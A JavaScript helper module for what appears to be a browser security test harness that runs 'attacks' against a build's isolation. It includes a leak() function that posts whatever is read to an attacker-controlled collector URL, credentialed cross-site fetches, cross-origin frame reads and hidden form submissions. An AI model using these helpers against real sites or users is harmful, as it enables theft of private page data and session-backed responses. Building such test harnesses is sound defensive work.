// What all attacks share. `facts` says where things are; a build's author could know them.

globalThis.facts = {}
globalThis.attacks = {}

const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds))

/** Sends what was read to the attacker's server. */
function leak(what, value) {
  if (!facts.collector) return
  const body = JSON.stringify({ what, value: String(value) })
  void fetch(facts.collector, { method: 'POST', mode: 'no-cors', body }).catch(() => {})
}

/** Makes all attempts at once, sends home what they return, and lists those that returned something. */
async function tries(attempts) {
  const outcomes = await Promise.all(
    Object.entries(attempts).map(async ([what, attempt]) => {
      try {
        const value = await Promise.race([attempt(), pause(4000)])
        if (value === undefined || value === null || value === false || value === '') return []
        leak(what, value)
        return [`${what}: ${String(value).slice(0, 80)}`]
      } catch {
        return []
      }
    }),
  )
  return outcomes.flat()
}

/** Adds an element and waits until it has loaded or failed. */
function load(tag, properties) {
  return new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(tag), properties)
    element.addEventListener('load', () => resolve(element))
    element.addEventListener('error', () => reject(new Error(`${tag} did not load`)))
    document.body.append(element)
  })
}

/** A frame always "loads"; what counts is whether anything of it can be read. */
async function readFrame(src) {
  const frame = await load('iframe', { src })
  return frame.contentWindow.document.documentElement.outerHTML
}

function click(properties) {
  const link = Object.assign(document.createElement('a'), properties)
  document.body.append(link)
  link.click()
}

function submit(properties, fields = {}) {
  const form = Object.assign(document.createElement('form'), properties)
  for (const [name, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement('input'), { name, value }))
  }
  document.body.append(form)
  form.submit()
}

/** An empty frame, for forms to be sent into. It is there at once. */
const emptyFrame = (name) =>
  document.body.appendChild(Object.assign(document.createElement('iframe'), { name }))

/** Runs a script in a frame without an origin. */
async function fromNowhere(script) {
  const frame = Object.assign(document.createElement('iframe'), {
    srcdoc: `<script>${script}</script>`,
  })
  frame.setAttribute('sandbox', 'allow-scripts allow-forms')
  document.body.append(frame)
  const answer = new Promise((resolve) => {
    addEventListener('message', ({ source, data }) => source === frame.contentWindow && resolve(data))
  })
  return Promise.race([answer, pause(4000)])
}

/** The first message of a worker, socket or stream; rejects if it fails instead. */
function messageFrom(source, event = 'message') {
  return new Promise((resolve, reject) => {
    source.addEventListener(event, ({ data }) => resolve(data ?? 'open'), { once: true })
    source.addEventListener('error', () => reject(new Error('refused')), { once: true })
  })
}

const answerTo = async (address, options = {}) => {
  const response = await fetch(address, { credentials: 'include', ...options })
  return response.ok ? response.text() : undefined
}

async function attack(name, given) {
  globalThis.facts = given
  return (await attacks[name]()) ?? []
}

Object.assign(globalThis, {
  tries,
  load,
  readFrame,
  click,
  submit,
  emptyFrame,
  fromNowhere,
  answerTo,
  messageFrom,
  attack,
})
